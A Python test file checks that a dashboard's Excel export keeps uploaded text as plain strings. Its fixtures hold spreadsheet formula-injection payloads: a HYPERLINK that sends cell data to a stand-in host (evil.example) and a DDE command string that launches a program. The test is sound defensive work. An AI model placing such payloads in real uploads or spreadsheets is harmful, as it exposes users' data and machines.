"""The dashboard's XLSX: a text from an upload is stored as a literal string, never as a formula."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from services.portal.export import dashboard_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")'


def test_texts_that_look_like_formulas_are_exported_as_strings() -> None:
    figures = {"kpis": [{"title": "Доля обучающихся 10–19 лет", "value": 0.5, "target": 0.7,
                         "numerator": 5, "denominator": 10, "met": False, "display": "50,0 %",
                         "target_display": "70,0 %", "met_display": "нет",
                         "calculation": "5 из 10"}],
               "mentees": {"total": 5},
               "headline": [
                   {"code": "mentees", "label": "Наставляемые", "value": 17, "display": "17"},
                   {"code": "feedback_completion", "label": "Встречи с обратной связью",
                    "value": 0.455, "display": "45,5 %"},
                   {"code": "satisfaction_mentors", "label": "Удовлетворённость наставников",
                    "value": None, "display": "скрыто: менее 5 чел."}]}
    children = [{"name": "+cmd|' /C calc'!A0", "kind": "school", "kpi": None,
                 "figures": {"mentees": 3, "mentors": 1}, "late": 1}]
    overdue = [{"organisation": "@SUM(1+1)", "roadmap_title": "-2+3",
                "activity": HOSTILE, "deadline_text": "\tдо 01.10.2025\x0b"}]
    content = dashboard_xlsx({"name": "=1+1"}, figures, children, overdue, {"school": "школа"})

    book = load_workbook(io.BytesIO(content))
    late = book["Просрочено"]
    activity = late["C2"]
    assert activity.data_type == "s" and activity.value == HOSTILE
    assert [c.data_type for c in late[2]] == ["s"] * 4
    assert [c.value for c in late[2]] == ["@SUM(1+1)", "-2+3", HOSTILE, "\tдо 01.10.2025"]
    assert book["Показатели"]["A1"].data_type == "s" and book["Показатели"]["A1"].value == "=1+1"
    assert book["Рейтинг"]["B2"].data_type == "s"
    # no cell anywhere is a formula; numbers stay numbers
    assert not [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert book["Рейтинг"]["E2"].value == 3 and book["Рейтинг"]["E2"].data_type == "n"
    assert book["Показатели"]["B5"].value == "50,0 %"  # the one formatter's text, as on screen
    assert book["Показатели"]["F5"].value == 5 and book["Показатели"]["F5"].data_type == "n"



def test_the_headline_carries_its_numbers_beside_the_texts() -> None:
    """An official sums the counts in Excel: each headline text has its number beside it,
    and a hidden figure has none."""
    figures = {"kpis": [], "headline": [
        {"code": "mentees", "label": "Наставляемые", "value": 17, "display": "17"},
        {"code": "feedback_completion", "label": "Встречи с обратной связью", "value": 0.455,
         "display": "45,5 %"},
        {"code": "satisfaction_mentors", "label": "Удовлетворённость наставников", "value": None,
         "display": "скрыто: менее 5 чел."}]}
    sheet = load_workbook(io.BytesIO(dashboard_xlsx({"name": "Школа"}, figures, [], [], {})))["Показатели"]
    rows = [[c for c in row] for row in sheet.iter_rows() if row[0].value]
    header = next(i for i, row in enumerate(rows) if [c.value for c in row[:3]] == [
        "Показатель", "Значение", "Число"])
    mentees, share, hidden = rows[header + 1:header + 4]
    assert (mentees[1].value, mentees[2].value, mentees[2].data_type) == ("17", 17, "n")
    assert (share[1].value, share[2].value, share[2].number_format) == ("45,5 %", 0.455, "0.0%")
    assert hidden[1].value == "скрыто: менее 5 чел." and hidden[2].value is None
